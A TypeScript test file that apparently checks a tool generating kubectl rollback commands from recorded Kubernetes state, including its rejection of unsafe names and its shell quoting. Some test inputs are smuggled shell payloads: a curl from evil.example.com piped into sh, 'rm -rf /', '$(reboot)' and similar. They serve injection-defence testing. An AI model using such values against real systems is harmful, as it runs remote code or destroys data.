import { execFileSync } from 'node:child_process';
import type { Json } from '../../../../lib/release/model';
import { quoteShell } from '../../../../lib/release/report/quoteShell';
import { rollbackCommands } from '../../../../lib/release/report/rollbackCommands';
import { exampleStep, RECORD_LIVE } from './exampleFacts';

const PLACE = { namespace: 'production', containers: { 'case-backend': 'backend', 'case-frontend': 'frontend' } };
const NOWHERE = { namespace: '', containers: {} };
const DIGEST = `sha256:${'a'.repeat(64)}`;

const recorded = (result: Json) => [exampleStep({ stepKey: '3.1/record-live', kind: 'change', result })];

function workload(change: Readonly<Record<string, Json>>): Json {
	const live = { deployment: 'api-blue', image: `registry.example.com/api@${DIGEST}`, replicas: 3 };
	return { workloads: [{ service: 'api', live, selector: { app: 'api', color: 'blue' }, ...change }] };
}

it('puts back image, replicas and the whole selector of every recorded workload, images first', () => {
	expect(rollbackCommands(recorded(RECORD_LIVE), PLACE)).toEqual({
		recorded: true,
		blocks: [
			{
				title: 'Bring the recorded version up',
				lines: [
					`kubectl --namespace production set image deployment/case-backend-blue backend=registry.example.com/case/backend@${DIGEST}`,
					'kubectl --namespace production scale deployment/case-backend-blue --replicas=3',
					'kubectl --namespace production rollout status deployment/case-backend-blue --timeout=600s',
					`kubectl --namespace production set image deployment/case-frontend-blue frontend=registry.example.com/case/frontend@${DIGEST}`,
					'kubectl --namespace production scale deployment/case-frontend-blue --replicas=2',
					'kubectl --namespace production rollout status deployment/case-frontend-blue --timeout=600s',
				],
			},
			{
				title: 'Give it the traffic',
				lines: ['backend', 'frontend'].map(
					(name) =>
						`kubectl --namespace production patch service case-${name} --type=json --patch='[{"op":"replace","path":"/spec/selector","value":{"app":"case-${name}","color":"blue"}}]'`,
				),
			},
			{
				title: 'Look whether it serves',
				lines: ['backend', 'frontend'].map(
					(name) =>
						`kubectl --namespace production get endpointslices --selector=kubernetes.io/service-name=case-${name}`,
				),
			},
		],
		notes: [],
	});
});

it('asks the shell for what was not recorded, and fails there when it is not set', () => {
	const { blocks, notes } = rollbackCommands(recorded(workload({})), NOWHERE);
	const [line = ''] = blocks[0]?.lines ?? [];
	expect(line).toBe(
		`kubectl --namespace "\${NAMESPACE:?}" set image deployment/api-blue "\${CONTAINER:?}="registry.example.com/api@${DIGEST}`,
	);
	expect(notes).toEqual([
		'The namespace was not recorded: set NAMESPACE before you run the lines.',
		"The container's name was not recorded: set CONTAINER before you run a line that uses it.",
	]);
	expect(() => execFileSync('sh', ['-c', line.replace('kubectl', 'true')], { stdio: 'pipe', env: {} })).toThrow(
		'NAMESPACE',
	);
});

it('takes the namespace that was recorded before the configured one', () => {
	const record = { namespace: 'recorded', ...(workload({}) as object) } as Json;
	expect(rollbackCommands(recorded(record), PLACE).blocks[1]?.lines[0]).toContain('--namespace recorded ');
});

it('stops what the release moved the workers to before it starts the recorded ones, and takes no name that is none', () => {
	const live = { deployment: 'consumer-blue', image: `registry.example.com/api@${DIGEST}`, replicas: 2 };
	const odd = { ...live, deployment: 'x; rm -rf' };
	const workers = [
		{ worker: 'consumer', live },
		{ worker: 'odd', live: odd },
	];
	const record = { ...(workload({}) as object), workers } as Json;
	const moved = { workers: [{ worker: 'consumer', deployment: 'consumer-green' }] };
	const steps = [...recorded(record), exampleStep({ stepKey: '3.2/move-workers', kind: 'change', result: moved })];
	const at = '--namespace production';
	expect(rollbackCommands(steps, PLACE).blocks[2]).toEqual({
		title: 'Bring the recorded workers back',
		lines: [
			`kubectl ${at} scale deployment/consumer-green --replicas=0`,
			`kubectl ${at} rollout status deployment/consumer-green --timeout=600s`,
			`kubectl ${at} scale deployment/consumer-blue --replicas=2`,
			`kubectl ${at} rollout status deployment/consumer-blue --timeout=600s`,
		],
	});
});

it('never scales a workload to nothing', () => {
	const none = { deployment: 'api-blue', image: `registry.example.com/api@${DIGEST}`, replicas: 0 };
	expect(rollbackCommands(recorded(workload({ live: none })), PLACE).blocks[0]?.lines[1]).toContain('--replicas=1');
});

it('falls back on the selectors that the switch recorded, and says that the images are missing', () => {
	const inverse = { selectors: [{ service: 'api', selector: { app: 'api', color: 'blue' } }] };
	const { blocks, notes } = rollbackCommands(
		[exampleStep({ stepKey: '3.2/switch-traffic', kind: 'change', inverse })],
		PLACE,
	);
	expect(blocks.map(({ title }) => title)).toEqual(['Give it the traffic', 'Look whether it serves']);
	expect(notes[0]).toContain('Only the selectors were recorded');
});

it.each([
	['nothing', []],
	['a record that failed', [exampleStep({ stepKey: '3.1/record-live', state: 'failed' })]],
	['a record without workloads', recorded({ workloads: [] })],
	['a record of another shape', recorded('blue')],
])('says so when there is %s', (_, steps) => {
	const { recorded: isRecorded, blocks, notes } = rollbackCommands(steps, PLACE);
	expect({ isRecorded, blocks }).toEqual({ isRecorded: false, blocks: [] });
	expect(notes).toEqual([expect.stringContaining('Nothing was recorded that could be put back')]);
});

const live = (change: Readonly<Record<string, Json>>): Readonly<Record<string, Json>> => ({
	live: { deployment: 'api-blue', image: `registry.example.com/api@${DIGEST}`, replicas: 3, ...change },
});
it.each([
	['a service that ends the word', { service: "api'; curl evil.example.com | sh; '" }],
	['a service that is an option', { service: '--all-namespaces' }],
	['a service with a line feed', { service: 'api\nrm -rf /' }],
	['a deployment with a substitution', live({ deployment: '$(reboot)' })],
	['an image with a space', live({ image: `registry.example.com/api@${DIGEST} --all` })],
	['an image without digest', live({ image: 'registry.example.com/api:latest' })],
	['an image that is an option', live({ image: `--help@${DIGEST}` })],
	['replicas that are a text', live({ replicas: '3; reboot' })],
	['a label that ends the word', { selector: { app: "api'$(reboot)'" } }],
	['a label key that is none', { selector: { 'a b': 'api' } }],
	['an empty selector', { selector: {} }],
])('prints no line for a record that holds %s', (_, change) => {
	const { recorded: isRecorded, blocks, notes } = rollbackCommands(recorded(workload(change)), PLACE);
	expect({ isRecorded, blocks }).toEqual({ isRecorded: false, blocks: [] });
	expect(notes).toEqual([expect.stringContaining('is not valid')]);
});

it('does not put a configured namespace or container into a line that is no name', () => {
	const { blocks } = rollbackCommands(recorded(workload({})), {
		namespace: 'a; reboot',
		containers: { api: '$(reboot)' },
	});
	expect(blocks.flatMap(({ lines }) => lines).join('\n')).not.toContain('reboot');
});

it.each(['plain-word', 'a=b', 'two words', "it's", '$(reboot) `reboot` "$HOME"', '', 'line\nfeed', '*', '~', '!!'])(
	'quotes %j so that the shell hands it on as it is',
	(text) => {
		expect(execFileSync('sh', ['-c', `printf %s ${quoteShell(text)}`], { encoding: 'utf8' })).toBe(text);
	},
);
